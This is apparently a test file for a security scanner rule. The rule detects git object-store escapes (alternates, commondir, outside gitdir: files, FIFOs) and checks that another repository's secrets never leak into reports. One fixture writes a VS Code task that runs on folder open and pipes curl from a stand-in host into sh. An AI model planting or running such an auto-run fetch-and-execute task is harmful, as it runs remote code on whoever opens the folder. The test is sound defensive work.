import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, it } from 'node:test';
import { runAirlock } from '../../../../test/helpers/cli.ts';
import { findingsOf } from '../../../../test/helpers/fixtures.ts';
import { buildRepo, git, tempDir } from '../../../../test/helpers/git-repo.ts';
import { describeRepoFixtures } from '../../../../test/helpers/repo-fixtures.ts';
import type { Report } from '../../../core/types.ts';
import { scan } from '../../../index.ts';
import rule from './rule.ts';

describeRepoFixtures(rule, import.meta.url, { rules: [rule] });

const tmp = tempDir('store-escape');
after(() => {
  rmSync(tmp, { recursive: true, force: true });
});

const SECRET = 'private-4f1c9e-marker';

/** Another repository on the machine, with a commit the scanned folder must never reveal. */
function otherRepo(name: string): { dir: string; sha: string } {
  const dir = join(tmp, name);
  buildRepo(dir, {
    commits: [
      { branch: 'main', message: 'Initial', files: { 'README.md': '# mine\n' } },
      {
        branch: 'secret',
        message: `keys ${SECRET}`,
        files: {
          'notes.txt': `${SECRET}\n`,
          '.vscode/tasks.json': JSON.stringify({
            version: '2.0.0',
            tasks: [
              { label: 'x', type: 'shell', command: `curl https://${SECRET}.example.invalid/x | sh`, runOptions: { runOn: 'folderOpen' } },
            ],
          }),
        },
      },
    ],
  });
  return { dir, sha: git(dir, ['rev-parse', 'secret']).trim() };
}

function targetRepo(name: string): string {
  const dir = join(tmp, name);
  buildRepo(dir, { commits: [{ message: 'Take-home task', files: { 'README.md': '# Task\n' } }] });
  return dir;
}

it('never lists, scans or prints the commits of a repository that alternates point at (--all-refs)', async () => {
  const other = otherRepo('other');
  const target = targetRepo('alternates');
  writeFileSync(join(target, '.git', 'objects', 'info', 'alternates'), `${join(other.dir, '.git', 'objects')}\n`);
  // Git itself follows the file whatever the environment says: the setup is a real leak.
  const listed = execFileSync('git', ['--git-dir', join(target, '.git'), 'cat-file', '--batch-all-objects', '--batch-check'], {
    env: { ...process.env, GIT_ALTERNATE_OBJECT_DIRECTORIES: '' },
    encoding: 'utf8',
  });
  assert.ok(listed.includes(other.sha));

  const r = await runAirlock(['scan', target, '--all-refs', '--format', 'json', '--fail-on', 'never']);
  assert.equal(r.code, 0);
  assert.ok(!r.stdout.includes(SECRET), 'the other repository leaked into the report');
  assert.ok(!r.stdout.includes(other.sha));
  const report = JSON.parse(r.stdout) as Report;
  const hits = findingsOf(report, rule.meta.id);
  assert.equal(hits.length, 1);
  assert.equal(hits[0]?.severity, 'high');
  assert.equal(hits[0].location.file, '.git/objects/info/alternates');
  assert.equal(hits[0].evidence, join(other.dir, '.git', 'objects'));
  // The target's own history is still read.
  assert.equal(report.provenance?.commits, 1);
});

it('reports commondir and a gitdir: file pointing out of the folder as high, and reads neither', async () => {
  const other = otherRepo('other-2');
  const linked = targetRepo('commondir');
  writeFileSync(join(linked, '.git', 'commondir'), `${join(other.dir, '.git')}\n`);
  const byFile = join(tmp, 'gitdir-file');
  mkdirSync(byFile);
  writeFileSync(join(byFile, '.git'), `gitdir: ${join(other.dir, '.git')}\n`);
  writeFileSync(join(byFile, 'README.md'), '# Task\n');
  for (const [dir, file] of [
    [linked, '.git/commondir'],
    [byFile, '.git'],
  ] as const) {
    const report = await scan(dir, { allRefs: true });
    const hits = findingsOf(report, rule.meta.id);
    assert.deepEqual(
      hits.map(f => [f.severity, f.location.file]),
      [['high', file]],
    );
    assert.ok(!JSON.stringify(report).includes(SECRET));
  }
});

it('keeps git away from a FIFO in the object store: no stall, an error entry and a high finding', async () => {
  const target = targetRepo('fifo');
  git(target, ['repack', '-adq']);
  const fifoPack = join(target, '.git', 'objects', 'pack', 'pack-0000000000000000000000000000000000000000.pack');
  const fifoLoose = join(target, '.git', 'objects', 'ab', 'cdef0123456789abcdef0123456789abcdef01');
  mkdirSync(join(target, '.git', 'objects', 'ab'), { recursive: true });
  execFileSync('mkfifo', [fifoPack, fifoLoose]);
  const started = Date.now();
  const report = await scan(target, { allRefs: true });
  assert.ok(Date.now() - started < 15_000, `the scan took ${Date.now() - started} ms`);
  const hits = findingsOf(report, rule.meta.id);
  assert.deepEqual(hits.map(f => [f.severity, f.location.file]).sort(), [
    ['high', '.git/objects/ab/cdef0123456789abcdef0123456789abcdef01'],
    ['high', '.git/objects/pack/pack-0000000000000000000000000000000000000000.pack'],
  ]);
  const pack = '.git/objects/pack/pack-0000000000000000000000000000000000000000.pack';
  const error = report.errors.find(e => e.file === pack);
  assert.match(error?.message ?? '', /is a named pipe \(FIFO\), not a git object file; git was not shown it$/);
  assert.equal(report.provenance?.commits, 1);
});
